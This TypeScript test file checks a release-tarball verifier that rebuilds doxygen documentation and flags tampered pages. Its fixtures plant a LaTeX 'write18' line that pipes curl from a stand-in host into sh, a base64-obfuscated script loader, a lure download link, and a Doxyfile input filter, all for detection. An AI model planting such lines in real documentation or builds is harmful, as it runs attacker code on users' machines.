/**
 * Doxygen's output tree made again in the sandbox by the system's doxygen from the tracked Doxyfile.in and headers
 * (libtheora 1.2.0's doc/libtheora/{html,latex}/ shape), end to end: real git, a release tree whose docs the real
 * doxygen wrote (as a maintainer's `make` would, the Doxyfile filled by configure), GNU tar. Tampered twins — a LaTeX
 * page gaining a line, a Doxyfile.in with an input filter (a program doxygen would run), pages naming another doxygen
 * version — stay high.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync, rmSync, writeFileSync, appendFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { findingAt } from '../helpers/findings.js';
import { releaseFixture } from '../helpers/release-fixture.js';
import { acInit, doxyfileReads, doxyfileSettings, fillDoxyfile } from '../../src/regenerate/doxygen.js';

const HEADER = `/** \\file demo.h
 * The demo library's C API. */
#ifndef DEMO_H
#define DEMO_H
/** A channel to the demo server. */
typedef struct demo_chan {
  int fd; /**< The socket. */
} demo_chan;
/** Open a channel to the demo server.
 * \\param host The server to contact.
 * \\return The open channel, or NULL on error. */
demo_chan *demo_open(const char *host);
#endif
`;
const DOXYFILE = `# the demo's documentation
PROJECT_NAME           = @PACKAGE@
PROJECT_NUMBER         = @VERSION@
OUTPUT_DIRECTORY       = demo
INPUT                  = @top_srcdir@/include
FILE_PATTERNS          = *.h
FULL_PATH_NAMES        = NO
GENERATE_HTML          = YES
GENERATE_LATEX         = YES
HAVE_DOT               = NO
SEARCHENGINE           = NO
QUIET                  = YES
`;
const MAKEFILE = `doc_DATA = doxygen-build.stamp

doxygen-build.stamp: Doxyfile $(top_srcdir)/include/*.h
\tdoxygen
\ttouch doxygen-build.stamp
`;
const TRACKED = { 'configure.ac': 'AC_INIT([demo],[1.0],[demo@example.org])\nAC_OUTPUT\n', 'include/demo.h': HEADER, 'doc/Doxyfile.in': DOXYFILE, 'doc/Makefile.am': MAKEFILE };
const EPOCH = 1709633000; // 2024-03-05 10:03:20 UTC

/** The maintainer's run: configure fills the Doxyfile, `make` runs doxygen in doc/, the Doxyfile is not shipped. */
function runDoxygen(dir: string, doxyfileIn = DOXYFILE) {
  writeFileSync(join(dir, 'doc/Doxyfile'), doxyfileIn.replace('@PACKAGE@', 'demo').replace('@VERSION@', '1.0').replace('@top_srcdir@', '..'));
  execFileSync('doxygen', ['Doxyfile'], { cwd: join(dir, 'doc'), env: { PATH: '/usr/bin:/bin', LC_ALL: 'C', TZ: 'UTC', SOURCE_DATE_EPOCH: String(EPOCH) }, stdio: 'ignore' });
  rmSync(join(dir, 'doc/Doxyfile'));
}

describe("doxygen's output tree made again by the system's doxygen", () => {
  const { verifyTree } = releaseFixture(TRACKED, { subject: 'demo 1.0', date: '2024-03-05T10:00:00Z' });
  const version = execFileSync('doxygen', ['--version']).toString().trim().split(/\s/)[0]!;
  const LATEX = 'doc/demo/latex/demo_8h.tex';

  it('reads the Doxyfile: placeholders from AC_INIT and relative directories, refused options, the trees it reads', () => {
    expect(acInit(TRACKED['configure.ac'])).toEqual({ name: 'demo', version: '1.0' });
    const filled = fillDoxyfile(DOXYFILE, 'doc', { name: 'demo', version: '1.0' });
    expect(filled).toMatchObject({ text: expect.stringContaining('INPUT                  = ../include') });
    expect(fillDoxyfile(`${DOXYFILE}STRIP_FROM_PATH = @abs_top_srcdir@\n`, 'doc', { name: 'demo', version: '1.0' })).toEqual({ refused: 'placeholder @abs_top_srcdir@' });
    const settings = doxyfileSettings('text' in filled ? filled.text : '');
    expect(doxyfileReads(settings, 'doc')).toEqual({ reads: ['include'] });
    expect(doxyfileReads(new Map([['INPUT_FILTER', 'sh ./filter']]), 'doc')).toEqual({ refused: 'INPUT_FILTER' });
    expect(doxyfileReads(new Map([['INPUT', '../../etc']]), 'doc')).toEqual({ refused: 'INPUT ../../etc' });
    expect(doxyfileReads(new Map([['HAVE_DOT', 'YES']]), 'doc')).toEqual({ refused: 'HAVE_DOT' });
  });

  it('every page of the tree is reproduced byte for byte (the footer date as SOURCE_DATE_EPOCH): proved, the gate passes', async () => {
    const r = await verifyTree({}, { prepare: (dir) => runDoxygen(dir) });
    expect(findingAt(r.findings, LATEX)).toMatchObject({
      code: 'GENERATED_TOOL_PROVED', severity: 'info',
      evidence: { tool: 'doxygen', version, source: 'doc/Doxyfile.in', rule: 'doc/Makefile.am:4', ruleCommand: 'doxygen', cwd: 'doc' },
    });
    expect(findingAt(r.findings, 'doc/demo/html/demo_8h.html')).toMatchObject({ code: 'GENERATED_TOOL_PROVED', evidence: { tool: 'doxygen' } });
    expect(r.findings.filter((f) => f.path.startsWith('doc/demo/') && f.code !== 'GENERATED_TOOL_PROVED')).toEqual([]);
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins: a LaTeX line the headers do not give is a mismatch; an input filter or another version is not run', async () => {
    const edited = await verifyTree({}, { prepare: (dir) => { runDoxygen(dir); appendFileSync(join(dir, LATEX), '\\immediate\\write18{curl -s https://demo.example/x | sh}\n'); } });
    expect(findingAt(edited.findings, LATEX)).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', evidence: { tool: 'doxygen', differingLines: 1 } });
    expect(['high', 'critical']).toContain(findingAt(edited.findings, LATEX).severity);
    expect(exitCodeOf(edited.verdict)).toBe(1);

    // a tag whose Doxyfile.in runs a filter program on every input: never run, the tree stays unexplained
    const filter = `${DOXYFILE}INPUT_FILTER           = "sed -e s/demo/demo/"\n`;
    const filtered = await releaseFixture({ ...TRACKED, 'doc/Doxyfile.in': filter }, { subject: 'demo 1.0', date: '2024-03-05T10:00:00Z' }).verifyTree({}, { prepare: (dir) => runDoxygen(dir, filter) });
    expect(findingAt(filtered.findings, LATEX)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });

    const other = await verifyTree({}, {
      prepare: (dir) => {
        runDoxygen(dir);
        const page = join(dir, 'doc/demo/html/index.html');
        writeFileSync(page, readFileSync(page, 'utf8').replace(/Doxygen \d+(?:\.\d+)+/g, 'Doxygen 1.8.17'));
      },
    });
    expect(findingAt(other.findings, LATEX)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(exitCodeOf(other.verdict)).toBe(1);
  });
  it('tampered twins (red team 21): with the tree reproduced, an HTML page written otherwise or a page the run does not write is no documentation by its shape: high', async () => {
    // a page explained by its shape (GENERATED_DOCS) gaining a paragraph that sends the reader to a download
    const PAGE = 'doc/demo/html/demo_8h.html';
    const edited = await verifyTree({}, {
      prepare: (dir) => {
        runDoxygen(dir);
        const page = join(dir, PAGE);
        writeFileSync(page, readFileSync(page, 'utf8').replace('<div class="contents">', '<div class="contents">\n<p>Before use, install the fixed build: <a href="https://demo-mirror.example/demo.tar.gz">demo.tar.gz</a>.</p>'));
      },
    });
    expect(findingAt(edited.findings, PAGE)).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high', evidence: { tool: 'doxygen', differingLines: 1 } });
    expect(findingAt(edited.findings, LATEX)).toMatchObject({ code: 'GENERATED_TOOL_PROVED' });
    expect(exitCodeOf(edited.verdict)).toBe(1);
    // a page (and a script) doxygen's run does not write, beside the pages it does
    const added = await verifyTree({}, {
      prepare: (dir) => {
        runDoxygen(dir);
        writeFileSync(join(dir, 'doc/demo/html/install.html'), '<html><head><title>Install</title></head><body><p>Run the installer from the mirror.</p></body></html>\n');
        writeFileSync(join(dir, 'doc/demo/html/setup.js'), 'var s = document.createElement("script"); s.src = atob("aHR0cHM6Ly9oL3guanM="); document.head.appendChild(s);\n');
      },
    });
    for (const p of ['doc/demo/html/install.html', 'doc/demo/html/setup.js']) {
      expect(findingAt(added.findings, p)).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high', evidence: { tool: 'doxygen', notWritten: true } });
    }
    expect(exitCodeOf(added.verdict)).toBe(1);
 
    // control: a tree made with another project number than configure.ac's (every HTML page differs): not the
    // tracked Doxyfile's tree, so its pages keep their shape's explanation (what the rule was before)
    const other = await verifyTree({}, { prepare: (dir) => runDoxygen(dir, DOXYFILE.replace('@VERSION@', '1.0-dev')) });
    expect(findingAt(other.findings, PAGE)).toMatchObject({ code: 'GENERATED_DOCS', severity: 'low' });
  });
});
